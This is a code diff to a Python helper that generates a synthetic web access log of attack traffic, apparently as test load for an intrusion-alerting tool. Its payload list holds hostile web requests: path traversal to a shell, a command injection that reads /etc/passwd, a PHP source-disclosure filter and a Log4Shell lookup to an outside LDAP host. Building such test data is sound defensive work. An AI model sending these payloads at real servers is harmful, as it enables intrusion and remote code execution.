@@ -156,19 +156,24 @@ ATTACK_URLS = [
     "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
     "/ping.php?host=127.0.0.1;cat%20/etc/passwd", "/?x=${jndi:ldap://198.51.100.7:1389/a}",
 ]
-_REQUEST = re.compile(r'"(GET|POST|HEAD) [^ "]* ')
 
 
-def attack_access_log(target: Path, lines: int) -> Path:
-    """The scaled access log with every request's target replaced by a real attack payload: every line of it
-    raises or updates an alert (the "under attack" case), from the log's own ~1,750 client addresses."""
+def attack_access_log(target: Path, lines: int, sources: int | None = None) -> Path:
+    """A flood of web attacks: the real access log's client addresses (the first ``sources`` of them, or all
+    ~1,750) each sending the payloads above in turn, 100 requests a second, so that every line raises or updates
+    an alert (the "under attack" case)."""
     if target.exists() and sum(1 for _ in target.open("rb")) == lines:
         return target
-    source = scaled_access_log(target.with_name(f"access-{lines}.log"), lines)
+    with gzip.open(datasets() / "web-access-logs" / "apache_logs.gz", "rt", encoding="utf-8") as f:
+        clients = list(dict.fromkeys(line.split(" ", 1)[0] for line in f))[:sources]
+    start = datetime(2026, 11, 20, 8, 0)
     tmp = target.with_suffix(".tmp")
-    with source.open(encoding="utf-8") as f, tmp.open("w", encoding="utf-8") as out:
-        for n, line in enumerate(f):
-            url = ATTACK_URLS[n % len(ATTACK_URLS)]
-            out.write(_REQUEST.sub(lambda m: f'"{m.group(1)} {url} ', line, count=1))
+    target.parent.mkdir(parents=True, exist_ok=True)
+    with tmp.open("w", encoding="utf-8") as out:
+        for n in range(lines):
+            when = start + timedelta(milliseconds=10 * n)
+            url = ATTACK_URLS[n // len(clients) % len(ATTACK_URLS)]
+            out.write(f'{clients[n % len(clients)]} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} HTTP/1.1" '
+                      f'{(200, 404, 403, 500)[n % 4]} {512 + n % 997} "-" "Mozilla/5.0 (X11; Linux x86_64)"\n')
     tmp.replace(target)
     return target
